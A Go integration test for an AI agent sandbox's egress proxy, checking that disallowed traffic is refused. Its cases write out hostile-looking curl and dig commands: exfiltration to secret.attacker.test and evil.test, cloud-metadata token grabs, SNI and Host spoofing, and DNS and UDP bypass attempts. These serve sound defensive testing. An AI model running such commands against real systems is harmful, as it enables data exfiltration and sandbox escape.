package integration

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"testing"
	"testing/fstest"

	"golang.org/x/sys/unix"

	"github.com/agentrun/agentrun/events"
	"github.com/agentrun/agentrun/netfilter"
	"github.com/agentrun/agentrun/netfilter/proxy"
	"github.com/agentrun/agentrun/profiles"
)

// proxyEnv starts the test binary as the egress proxy (netfilter/proxy), in the fake
// internet's client namespace; its value is a proxyHelper in JSON.
const proxyEnv = "AGENTRUN_TEST_PROXY"

type proxyHelper struct {
	Profile  string // the profile's YAML
	Box      string // the namespace whose 127.0.0.1 the proxy listens on
	Upstream string // the fake internet's DNS server
	Events   string // the events file
}

// maybeServeProxy runs the proxy when the test binary was started as its helper. It never
// returns then. It dials from the namespace it runs in (the client's) and listens on
// 127.0.0.1 in the box namespace, where the test's programs run with nothing but loopback: as
// under macOS's SBPL, which lets the agent reach only the proxy's port, a program that ignores
// the proxy variables gets nowhere.
func maybeServeProxy() {
	v := os.Getenv(proxyEnv)
	if v == "" {
		return
	}
	if err := serveProxy(v); err != nil {
		fmt.Fprintln(os.Stderr, "proxy helper:", err)
		os.Exit(1)
	}
	os.Exit(0)
}

func serveProxy(v string) error {
	var h proxyHelper
	if err := json.Unmarshal([]byte(v), &h); err != nil {
		return err
	}
	cat, err := profiles.Load(fstest.MapFS{"p.yaml": {Data: []byte(h.Profile)}}, "")
	if err != nil {
		return err
	}
	e, err := cat.Lookup("p")
	if err != nil {
		return err
	}
	pol, err := cat.Resolve(e, profiles.Env{Home: "/h", Workspace: "/h/w", TmpDir: "/tmp"})
	if err != nil {
		return err
	}
	var host []netip.Addr
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil {
			host = append(host, p.Addr())
		}
	}
	l, err := listenIn(h.Box)
	if err != nil {
		return err
	}
	f, err := os.Create(h.Events)
	if err != nil {
		return err
	}
	p, err := proxy.Start(context.Background(), netfilter.NewPolicy(pol.Network, host), events.NewLog(f), proxy.Options{Upstream: h.Upstream, Listener: l})
	if err != nil {
		return err
	}
	fmt.Println(p.Addr())
	// Serve until the test kills us, or stdin closes with it.
	_, _ = bufio.NewReader(os.Stdin).ReadString('\n')
	p.Close()
	return f.Close()
}

// listenIn listens on 127.0.0.1 in the named network namespace, from a thread that enters it
// and is never reused (it stays locked when its goroutine ends, so the runtime drops it).
func listenIn(netns string) (net.Listener, error) {
	type result struct {
		l   net.Listener
		err error
	}
	ch := make(chan result, 1)
	go func() {
		runtime.LockOSThread()
		fd, err := unix.Open("/run/netns/"+netns, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			ch <- result{err: err}
			return
		}
		defer unix.Close(fd)
		if err := unix.Setns(fd, unix.CLONE_NEWNET); err != nil {
			ch <- result{err: fmt.Errorf("entering %s: %w", netns, err)}
			return
		}
		l, err := net.Listen("tcp", "127.0.0.1:0")
		ch <- result{l, err}
	}()
	r := <-ch
	return r.l, r.err
}

const proxyProfile = `name: p
network:
  allow: ["allowed.test:80,443", "rebind.test:80,443"]
`

// proxyAdapted are the egress cases about a layer the proxy does not have, or that a proxy
// client spells differently, as the proxy's test runs them. Every other case runs as it is.
var proxyAdapted = map[string]egressCase{
	// Node's fetch (undici, Node 20) reads no proxy variable: with only loopback, as under the
	// SBPL, it reaches nothing. Node 24's NODE_USE_ENV_PROXY=1 would use the proxy.
	"node fetch": {script: `node -e "fetch('https://allowed.test/').then(r => r.text()).then(console.log)"`, absent: "hello from allowed.test"},
	// The proxy serves no DNS: names are resolved by the proxy, which the clients ask by name
	// (CONNECT, socks5h); a DNS query from the sandbox goes nowhere.
	"dns over tcp to the sandbox's resolver": {script: "dig +tcp +time=1 +tries=1 +short allowed.test", absent: "198.18.0.1"},
	// Through a proxy curl cannot fail to resolve: the proxy refuses the CONNECT instead.
	"a name not allowed":   {script: "curl -sSk https://evil.test/", want: "403"},
	"dns exfiltration A":   {script: "curl -sSk https://secret.attacker.test/", want: "403"},
	"dns exfiltration TXT": {script: "curl -sS --socks5-hostname $PROXY https://secret.attacker.test/", want: "SOCKS"},
	"metadata name":        {script: "curl -sS -m 3 http://metadata.google.internal/", want: "cloud-metadata name", absent: "metadata-secret-token"},
	// --resolve does not reach through a proxy; --connect-to does: CONNECT allowed.test, SNI evil.test.
	"foreign SNI on an allowed address":  {script: "curl -sSk -m 3 --connect-to evil.test:443:allowed.test:443 https://evil.test/", absent: "hello from evil.test"},
	"foreign Host on an allowed address": {script: "curl -sS -m 3 -H 'Host: evil.test' http://allowed.test/", want: "403", absent: "hello from evil.test"},
	// The box has no route: what the Linux stack refuses or drops, the SBPL-like box cannot send.
	"dns to another server":          {script: "dig +time=1 +tries=1 @8.8.8.8 allowed.test", want: "unreachable"},
	"dns over tcp to another server": {script: "dig +tcp +time=1 +tries=1 @" + inetAddr + " allowed.test", want: "unreachable"},
	// UDP: the proxy relays none (no SOCKS5 UDP ASSOCIATE), and the box has no route.
	"quic to an allowed host": {script: `python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b'quic', ('` + inetAddr + `', 443)); s.recv(10)"`},
}

// proxyExtra are cases only a proxy has.
var proxyExtra = []egressCase{
	{name: "socks5h to an allowed name", script: "curl -sSk --socks5-hostname $PROXY https://allowed.test/", ok: true, want: "hello from allowed.test"},
	{name: "socks5h metadata", script: "curl -sS -m 3 --socks5-hostname $PROXY http://169.254.169.254/", absent: "metadata-secret-token"},
	{name: "curl -x CONNECT", script: "env -u https_proxy -u HTTPS_PROXY curl -sSk -x http://$PROXY https://allowed.test/", ok: true, want: "hello from allowed.test"},
	{name: "CONNECT to a port not allowed", script: "curl -sS -m 3 -p http://allowed.test:2222/", want: "403"},
	{name: "metadata through a CONNECT tunnel", script: "curl -sS -m 3 -p http://169.254.169.254/", want: "403", absent: "metadata-secret-token"},
}

func TestProxyEgress(t *testing.T) {
	f := newFakeInternet(t)
	box := strings.Replace(f.client, "-c", "-b", 1)
	t.Cleanup(func() { _ = exec.Command("ip", "netns", "del", box).Run() })
	run(t, "ip", "netns", "add", box)
	run(t, "ip", "netns", "exec", box, "ip", "link", "set", "lo", "up")
	eventsFile := f.dir + "/proxy-events.jsonl"
	cfg, _ := json.Marshal(proxyHelper{Profile: proxyProfile, Box: box, Upstream: inetAddr + ":53", Events: eventsFile})
	helper := exec.Command("ip", "netns", "exec", f.client, os.Args[0])
	helper.Env = append(os.Environ(), proxyEnv+"="+string(cfg))
	helper.Stderr = os.Stderr
	stdin, err := helper.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := helper.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := helper.Start(); err != nil {
		t.Fatal(err)
	}
	stopped := false
	stop := func() {
		if !stopped {
			stopped = true
			stdin.Close() // the helper closes the proxy and the events file
			_ = helper.Wait()
		}
	}
	t.Cleanup(stop)
	addr, err := bufio.NewReader(out).ReadString('\n')
	if err != nil {
		t.Fatalf("the proxy helper did not start: %v", err)
	}
	addr = strings.TrimSpace(addr)
	work := t.TempDir()
	// A refused plain-HTTP request is the proxy's 403 answer, which curl takes as a page; as
	// the agent's curl fails at a refused connection on Linux, it fails at the 403 here.
	if err := os.WriteFile(work+"/.curlrc", []byte("fail-with-body\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cases := append([]egressCase(nil), egressCases...)
	for i, tc := range cases {
		if a, ok := proxyAdapted[tc.name]; ok {
			a.name = tc.name
			cases[i] = a
		}
	}
	for _, tc := range append(cases, proxyExtra...) {
		t.Run(tc.name, func(t *testing.T) {
			cmd := exec.Command("ip", "netns", "exec", box, "sh", "-c", "cd "+work+" && rm -rf clone && "+tc.script)
			cmd.Env = append([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + work, "PROXY=" + addr}, proxy.Env(addr)...)
			b, err := cmd.CombinedOutput()
			res := string(b)
			if tc.ok != (err == nil) {
				t.Errorf("want success %v, got %v: %s", tc.ok, err, res)
			}
			if tc.want != "" && !strings.Contains(res, tc.want) {
				t.Errorf("want %q in the output, got %s", tc.want, res)
			}
			if tc.absent != "" && strings.Contains(res, tc.absent) {
				t.Errorf("%q got through: %s", tc.absent, res)
			}
		})
	}
	stop()
	f.checkAsked(t)
	b, err := os.ReadFile(eventsFile)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"verdict":"denied","reason":"cloud-metadata`, `"name":"secret.attacker.test","protocol":"A","verdict":"denied"`, `names evil.test, not allowed.test`, `"verdict":"allowed"`, clientAddr + "/32", `port 2222 is not allowed`} {
		if !strings.Contains(string(b), want) {
			t.Errorf("no event with %s", want)
		}
	}
}
